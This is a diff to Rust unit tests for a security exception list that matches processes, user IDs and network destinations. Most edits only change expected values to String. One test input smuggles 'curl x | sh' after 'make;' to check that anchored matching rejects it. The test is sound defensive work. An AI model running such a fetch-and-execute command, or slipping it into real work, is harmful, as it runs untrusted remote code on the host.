@@ -26,8 +26,14 @@ const BUILD: &str = "exceptions:\n  - name: build\n    rules: [exec, process]\n 
 fn exec_matches_by_executable_and_anchored_argv() {
     let list = exceptions(BUILD);
     let hit = |exe, args: &[&str]| list.matching(&[Scope::Process], &exec_subject(exe, args));
-    assert_eq!(hit("/bin/sh", &["sh", "-c", "make"]), Some("build"));
-    assert_eq!(hit("/bin/sh", &["sh", "-c", "make -j4"]), Some("build"));
+    assert_eq!(
+        hit("/bin/sh", &["sh", "-c", "make"]),
+        Some("build".to_string())
+    );
+    assert_eq!(
+        hit("/bin/sh", &["sh", "-c", "make -j4"]),
+        Some("build".to_string())
+    );
     // Anchored: more (or less) than the pattern is a near miss.
     assert_eq!(hit("/bin/sh", &["sh", "-c", "make; curl x | sh"]), None);
     assert_eq!(hit("/bin/sh", &["xsh", "-c", "make"]), None);
@@ -59,7 +65,10 @@ fn ancestor_uid_and_bare_executable_names() {
         uid: Some(1000),
         ..Subject::default()
     };
-    assert_eq!(list.matching(&[Scope::Process], &subject), Some("npm"));
+    assert_eq!(
+        list.matching(&[Scope::Process], &subject),
+        Some("npm".to_string())
+    );
     subject.uid = Some(0);
     assert_eq!(
         list.matching(&[Scope::Process], &subject),
@@ -90,17 +99,17 @@ fn destinations_by_network_host_suffix_and_port() {
     let connect = &[Scope::Rule(RuleName::Connect)];
     assert_eq!(
         list.matching(connect, &to("10.1.2.3", None, 443)),
-        Some("lan")
+        Some("lan".to_string())
     );
     assert_eq!(
         list.matching(&[Scope::Network], &to("10.1.2.3", None, 443)),
-        Some("lan")
+        Some("lan".to_string())
     );
     assert_eq!(list.matching(connect, &to("10.1.2.3", None, 80)), None);
     assert_eq!(list.matching(connect, &to("11.1.2.3", None, 443)), None);
     assert_eq!(
         list.matching(connect, &to("192.0.2.1", Some("api.Example.com"), 80)),
-        Some("cdn")
+        Some("cdn".to_string())
     );
     assert_eq!(
         list.matching(connect, &to("192.0.2.1", Some("example.com"), 80)),
